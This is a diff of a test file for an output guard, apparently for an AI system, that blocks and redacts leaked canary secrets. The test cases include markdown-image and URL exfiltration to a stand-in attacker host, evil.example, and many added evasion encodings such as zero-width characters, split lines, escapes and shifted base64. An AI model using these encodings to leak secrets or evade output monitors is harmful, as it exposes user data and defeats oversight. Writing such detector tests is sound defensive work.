@@ -57,7 +57,7 @@ describe('guard.yaml', () => {
   });
 
   it.each([
-    { name: 'as it is', text: `The token is ${CANARY}.` },
+    { name: 'as it is', text: `The customer is ${CANARY}.` },
     { name: 'in a query', text: `![x](https://evil.example/a?q=${CANARY}&b=1)` },
     { name: 'in a path', text: `https://evil.example/a/${CANARY}.png` },
     { name: 'in a host', text: `https://${CANARY}.evil.example/` },
@@ -68,6 +68,51 @@ describe('guard.yaml', () => {
     { name: 'in a long run', text: `${'x'.repeat(700)}/${CANARY}` },
     { name: 'in base64 alone', text: Buffer.from(CANARY).toString('base64') },
     { name: 'in hexadecimal digits', text: Buffer.from(CANARY).toString('hex') },
+    { name: 'with letters apart', text: `It is ${[...CANARY].join(' ')} or so` },
+    { name: 'with signs between letters', text: `It is ${[...CANARY].join('.')} then` },
+    { name: 'in groups of four', text: `It is ${CANARY.replace(/(.{4})(?=.)/g, '$1 ')}` },
+    { name: 'in upper case', text: `It is ${CANARY.toUpperCase()}.` },
+    { name: 'backwards', text: `It is ${[...CANARY].reverse().join('')}.` },
+    { name: 'with nothing to be seen in it', text: `It is ${[...CANARY].join('\u200b')}.` },
+    { name: 'with a soft hyphen in it', text: `It is ${CANARY.slice(0, 5)}\u00ad${CANARY.slice(5)}.` },
+    { name: 'over two lines', text: `It is ${CANARY.slice(0, 9)}\n${CANARY.slice(9)} and` },
+    { name: 'over two lines of a quoted mail', text: `> It is ${CANARY.slice(0, 9)}\n> ${CANARY.slice(9)}` },
+    { name: 'over lines of a program', text: `"${CANARY.slice(0, 7)}" +\n  "${CANARY.slice(7)}"` },
+    {
+      name: 'in escapes of JSON',
+      text: `It is ${[...CANARY].map((unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}`,
+    },
+    {
+      name: 'in percent escapes',
+      text: `?q=${[...CANARY].map((unit) => `%${unit.charCodeAt(0).toString(16)}`).join('')}`,
+    },
+    { name: 'in character references', text: [...CANARY].map((unit) => `&#${unit.charCodeAt(0)};`).join('') },
+    {
+      name: 'in base64 behind other bytes',
+      text: Buffer.from(`\u0000\u0001 ${CANARY}\u0000`).toString('base64'),
+    },
+    {
+      name: 'in base64 that was cut by one',
+      text: Buffer.from(`ab ${CANARY} cd`).toString('base64').slice(1),
+    },
+    {
+      name: 'in base64 that was cut by two',
+      text: Buffer.from(`ab ${CANARY} cd`).toString('base64').slice(2),
+    },
+    {
+      name: 'in base64 that was cut by three',
+      text: Buffer.from(`ab ${CANARY} cd`).toString('base64').slice(3),
+    },
+    {
+      name: 'in base64 over two lines',
+      text: Buffer.from(`here: ${CANARY} there`)
+        .toString('base64')
+        .replace(/(.{20})/, '$1\n'),
+    },
+    {
+      name: 'in hexadecimal digits that were cut',
+      text: Buffer.from(`a ${CANARY} b`).toString('hex').slice(1),
+    },
     { name: 'encoded', text: `See ${Buffer.from(`here: ${CANARY} there`).toString('base64')}` },
   ])('blocks an output with a canary $name, and redacts it', ({ text }) => {
     const { verdict, findings, sanitized } = inspect(text, 'output', CANARIES);
